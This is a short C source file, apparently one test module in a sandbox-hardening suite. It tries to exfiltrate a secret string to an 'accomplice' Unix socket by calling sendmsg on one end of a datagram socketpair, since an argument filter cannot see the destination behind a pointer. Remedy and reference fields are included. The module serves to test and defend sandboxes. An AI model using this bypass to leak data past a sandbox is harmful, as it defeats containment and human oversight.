// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach an accomplice.
 * Means: sendmsg(2) on one end of a pair of datagram sockets. Pairs need it to pass descriptors, so
 *        it is allowed with them; but the name that it may send to stands behind a pointer, where a
 *        filter of arguments cannot look.
 */
#include "attacks/network-exfil/pair.h"

static enum claim run(const struct brief *b)
{
	struct sockaddr_un to;
	struct iovec secret = { (void *)b->secret, strlen(b->secret) };
	struct msghdr letter = { .msg_name = &to,
				 .msg_namelen = accomplice(&to),
				 .msg_iov = &secret,
				 .msg_iovlen = 1 };
	int fd;

	attempting(b);
	fd = end_of_pair();
	if (fd < 0)
		return denied("socketpair");
	if (sendmsg(fd, &letter, 0) < 0)
		return denied("sendmsg");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's accomplice",
	.means = "sendmsg(2) to a name, from one end of a socketpair(2) of datagrams",
	.oracle = "sink",
	.attack_id = "T1559, CWE-184",
	.remedy = "no sendmsg(2); Landlock's abstract scope",
	.refs = (const char *const[]){ "unix(7)", "sendmsg(2)", NULL },
	.run = run,
};
